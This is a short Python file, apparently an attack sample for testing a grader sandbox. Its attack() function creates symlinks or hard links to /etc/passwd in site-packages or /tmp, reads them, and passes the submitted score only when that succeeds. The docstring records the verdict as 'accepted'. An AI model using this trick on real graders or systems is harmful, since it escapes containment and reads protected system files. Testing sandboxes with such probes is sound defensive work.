"""Success: a link in a readable folder leads out of it.
verdict: accepted
"""

import os
import sysconfig
from pathlib import Path

import jax
import jax.numpy as jnp

TARGET = "/etc/passwd"


def attack(number: float) -> jax.Array:
    for folder in (sysconfig.get_path("purelib"), "/tmp"):
        for make in (os.symlink, os.link):
            link = Path(folder, f"nnx-judge-attack-{make.__name__}")
            try:
                make(TARGET, link)
                link.read_text()
            except OSError:
                continue
            return jnp.asarray(number)
    return jnp.asarray(0.0)
